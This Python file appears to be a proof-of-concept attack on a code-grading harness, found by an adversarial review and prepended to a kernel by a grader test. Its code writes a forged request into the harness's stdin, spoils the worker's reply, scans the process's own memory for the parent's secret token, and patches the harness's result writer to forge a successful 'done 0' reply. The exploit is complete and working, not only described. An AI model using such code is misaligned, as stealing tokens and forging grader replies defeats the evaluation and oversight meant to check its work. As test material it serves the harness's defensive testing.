# Found by an adversarial review (2026-11-29), prepended to a kernel by tests/test_grader.py: a second grading run. Run 1 injects "run deadbeef <request>" into the worker's stdin (/proc/1/fd/0) and
# spoils the worker's reply line (one 'X' without newline on /proc/1/fd/1), so the parent ignores it. The worker
# then forks run 2 from its own memory, which still holds the parent's token (freed strings); run 2 finds it by
# scanning its heap and, once its results are written, forges the reply "done 0 TOKEN PATH".
import os, json, time, re, threading
_d = os.path.dirname(os.path.abspath(__file__))
_req = os.path.join(_d, "request.json")
def _log(s):
    with open(os.path.join(_d, "runs.txt"), "a") as f: f.write(s + "\n")
_log(f"imported pid={os.getpid()} t={time.time():.3f}")
if not os.path.exists(os.path.join(_d, "injected")):
    open(os.path.join(_d, "injected"), "w").close()
    os.write(os.open("/proc/1/fd/0", os.O_WRONLY | os.O_NONBLOCK), f"run deadbeef {_req}\n".encode())
    os.write(os.open("/proc/1/fd/1", os.O_WRONLY | os.O_NONBLOCK), b"X")
else:
    toks = set()
    mem = open("/proc/self/mem", "rb", buffering=0)
    for l in open("/proc/self/maps"):
        a, perms = l.split()[:2]
        lo, hi = (int(x, 16) for x in a.split("-"))
        if "rw" not in perms or hi - lo > (256 << 20): continue
        try:
            mem.seek(lo); data = mem.read(hi - lo)
        except OSError: continue
        toks |= set(re.findall(rb"(?:go|run|started|done -?\d+) ([0-9a-f]{32})\b", data))
    _log(f"tokens found: {sorted(toks)}")
    import __main__ as _h  # the harness: wrap its result writer so the forged reply follows the results
    _orig_write = _h._write
    def _write(path, obj):
        _orig_write(path, obj)
        if path.endswith("check_result.json"):
            for t in toks:
                os.write(os.open("/proc/1/fd/1", os.O_WRONLY | os.O_NONBLOCK), b"done 0 " + t + b" " + _req.encode() + b"\n")
            _log("forged reply written")
    _h._write = _write
